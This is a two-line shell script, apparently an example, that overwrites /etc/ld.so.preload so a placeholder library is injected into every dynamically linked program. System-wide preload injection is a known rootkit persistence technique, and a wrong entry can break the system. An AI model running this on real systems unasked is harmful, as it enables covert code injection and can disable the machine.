#!/bin/sh
echo /usr/local/lib/libexample.so > /etc/ld.so.preload
